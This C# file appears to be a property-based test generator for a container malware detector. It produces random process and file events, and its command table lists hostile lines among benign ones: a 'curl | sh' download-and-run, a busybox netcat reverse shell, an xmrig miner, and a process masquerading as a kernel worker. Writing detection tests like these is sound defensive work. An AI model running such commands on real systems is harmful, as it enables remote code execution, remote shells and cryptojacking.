using Detection.Tests.MaliciousProgram;
using FsCheck;
using FsCheck.Fluent;
using Pipeline.Domain.Events;
using Testing.Scripts;

namespace Detection.Tests.Laws;

/// <summary>
/// What malicious programs do, and what the processes of a container otherwise do: in files and processes few enough to meet.
/// </summary>
internal static class ProgramSteps
{
    private static readonly string[][] Commands =
    [
        ["/bin/sh", "sh", "-c", "curl -s x | sh"], ["/bin/sh", "sh"], ["/usr/bin/curl", "curl", "x"], ["/tmp/x", "[kworker/0:1]"],
        ["/opt/xmrig", "xmrig", "-o", "stratum+tcp://p:1"], ["/usr/bin/apt-get", "apt-get", "install", "x"], ["/usr/bin/nmap", "nmap"],
        ["/usr/sbin/nginx", "nginx"], ["/bin/busybox", "nc", "h", "1", "-e", "sh"], ["/memfd:a", "a"], ["/usr/bin/whoami", "whoami"],
    ];

    private static readonly Gen<FileReference> Files =
        from inode in Gen.Choose(0, 4)
        from layer in Gen.Elements(FileLayer.Image, FileLayer.Upper, FileLayer.Mount, FileLayer.Memory)
        select ProgramScript.Dropped((ulong)inode) with { Layer = layer };

    private static readonly Gen<FileOperation> Operations = Gen.Elements(
        FileOperation.Create, FileOperation.Write, FileOperation.ChangeMode, FileOperation.ChangeOwner, FileOperation.Unlink,
            FileOperation.Open);

    private static readonly Gen<ProcessRecord> Details =
        from file in Files
        from streams in Gen.Elements(0x444, 0x442, 0x424, 0x333)
        select new ProcessRecord { Executable = file, StandardStreams = streams };

    public static (int Weight, Gen<Action<Script>> Step)[] All { get; } =
    [
        (8, from command in Gen.Elements(Commands) from details in Details
            select new Action<Script>(s => s.Execs(command[0], command[1..], details))),
        (4, from operation in Operations from file in Files select new Action<Script>(s => s.Does(operation, "/tmp/x", file, 0x41))),
        (1, from operation in Gen.Elements(FileOperation.Unlink, FileOperation.ChangeOwner) from path in Gen.Elements("/tmp/x", "/bin/sh")
            select new Action<Script>(s => s.Does(operation, path, default))),
        (2, from file in Files from fill in Gen.Choose(1, 3) select new Action<Script>(s => s
            .Hashed(file, ProgramScript.Digest((byte)fill)))),
        (2, Gen.Choose(3, 5).Select(fd => new Action<Script>(s => s.Connects(fd)))),
        (1, Gen.Choose(3, 5).Select(fd => new Action<Script>(s => s.Accepts(fd)))),
        (4, from fd in Gen.Choose(3, 5) from to in Gen.Choose(0, 2) select new Action<Script>(s => s.Copies(fd, to))),
        (1, Gen.Constant(new Action<Script>(s => s.Sends("{\"id\":1,\"method\":\"mining.subscribe\"}")))),
    ];
}
